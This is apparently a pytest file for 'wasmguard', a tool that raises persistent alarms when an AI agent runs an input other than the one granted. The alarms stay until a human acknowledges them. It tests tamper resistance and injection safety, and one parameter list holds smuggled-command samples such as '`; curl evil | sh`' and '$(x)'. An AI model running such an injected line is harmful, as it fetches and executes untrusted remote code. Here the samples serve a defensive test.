"""Alarms: raised when in doubt, for one session, until somebody has looked."""

import os

import pytest

from wasmguard import alarm, plan, wire
from wasmguard.errors import CacheError, HostError

pytestmark = pytest.mark.usefixtures("own_home")

WHY = "the agent ran another input than the one that was granted"


def rung(session="s", record="0199aabb01020304ffee"):
    return alarm.raise_("claude", session, record, WHY)


def file_of(session="s"):
    return os.path.join(alarm.folder(), alarm.mark_of("claude", session))


def test_there_is_none_from_the_start():
    assert alarm.raised("claude", "s") is None
    assert alarm.standing() == []


def test_it_stands_for_its_session_alone():
    rung()
    assert alarm.raised("claude", "s").record == "0199aabb01020304ffee"
    assert alarm.raised("claude", "t") is None
    assert alarm.raised("codex", "s") is None
    assert alarm.raised("claud", "es") is None


def test_it_stands_for_other_processes_and_days():
    before = rung()
    assert plan.ledger().key_folder
    assert alarm.standing() == [before]
    assert alarm.raised("claude", "s") == before


def test_it_says_what_happened_and_what_to_do():
    assert rung().sentence == (
        f"{WHY}: see `wasmguard explain 0199aabb01020304ffee`,"
        " then run `wasmguard verify --acknowledge 0199aabb01020304ffee` in a terminal"
    )


@pytest.mark.parametrize("call", ["`; curl evil | sh`", "a b", "-rf", "x\n", "é", "", "a" * 81, "$(x)"])
def test_an_agents_words_are_no_part_of_a_command(call):
    raised = rung(record=call)
    assert raised.id == raised.mark
    assert call == "" or call not in raised.sentence.replace(WHY, "")


def test_it_ends_when_somebody_has_looked():
    rung("s")
    rung("t")
    alarm.end(alarm.raised("claude", "s"))
    assert alarm.raised("claude", "s") is None
    assert alarm.raised("claude", "t") is not None
    alarm.end(alarm.raised("claude", "t"))
    assert not os.path.exists(alarm.folder())
    alarm.end(alarm.Alarm(mark="0" * 32))


def test_the_first_stands_and_the_others_are_counted():
    first = rung()
    rung(record="ffffffffffff")
    again = rung(record="ffffffffffff")
    assert (again.record, again.more, again.time) == (first.record, 2, first.time)
    assert alarm.raised("claude", "s") == again


def changed(path):
    with open(path, "r+b") as file:
        data = file.read()
        file.seek(0)
        file.write(data.replace(b'"more":0', b'"more":7'))


def emptied(path):
    os.truncate(path, 0)


def opened(path):
    os.chmod(path, 0o666)


def linked(path):
    os.rename(path, path + ".elsewhere")
    os.symlink(path + ".elsewhere", path)


def dangling(path):
    os.unlink(path)
    os.symlink("/nowhere/at/all", path)


def a_folder(path):
    os.unlink(path)
    os.mkdir(path, 0o700)


def of_another(path):
    rung("other")
    os.replace(file_of("other"), path)


def nonsense(path):
    said = {"mark": os.path.basename(path), "record": 7}
    alarm._vault(alarm.folder()).write(os.path.basename(path), wire.written(said).encode())


@pytest.mark.parametrize("how", [changed, emptied, opened, linked, dangling, a_folder, of_another, nonsense])
def test_what_cannot_be_read_is_raised(how):
    rung()
    how(file_of())
    found = alarm.raised("claude", "s")
    assert found.why == alarm.UNREADABLE
    assert found.id == found.mark
    assert f"wasmguard verify --acknowledge {found.mark}" in found.sentence
    assert found in alarm.standing()
    assert alarm.raised("claude", "t") is None


def test_another_key_makes_it_unreadable_and_not_gone(own_home):
    rung()
    (key,) = own_home.rglob("key")
    key.write_bytes(bytes(32))
    assert alarm.raised("claude", "s").why == alarm.UNREADABLE


def test_what_cannot_be_looked_into_is_raised_for_all(own_home):
    rung()
    os.rename(alarm.folder(), alarm.folder() + ".moved")
    open(alarm.folder(), "w").close()
    assert alarm.raised("claude", "anybody").why == alarm.UNREADABLE
    with pytest.raises(HostError, match="cannot be read"):
        alarm.standing()


def test_one_that_cannot_be_read_gives_way_to_one_that_can():
    rung()
    emptied(file_of())
    assert rung(record="0199aabb0102").record == "0199aabb0102"
    assert alarm.raised("claude", "s").record == "0199aabb0102"


def test_one_that_cannot_be_written_is_an_error():
    os.makedirs(plan.ledger().folder, mode=0o700)
    open(alarm.folder(), "w").close()
    with pytest.raises(CacheError):
        rung()


def test_one_that_cannot_be_removed_stands():
    rung()
    a_folder(file_of())
    with pytest.raises(HostError, match="cannot be removed"):
        alarm.end(alarm.raised("claude", "s"))
    assert alarm.raised("claude", "s") is not None


def test_without_any_it_costs_one_look(monkeypatch):
    looked = []
    monkeypatch.setattr(alarm, "_read", lambda *_: pytest.fail("it read a mark that is not there"))
    monkeypatch.setattr(alarm.os, "lstat", lambda path, real=os.lstat: looked.append(path) or real(path))
    where = alarm.folder()
    assert alarm.raised("claude", "s", where) is None
    assert looked == [where]


def test_ids_may_be_any_text():
    rung("\ud800\n", record="c")
    assert alarm.raised("claude", "\ud800\n").session == "\ud800\n"
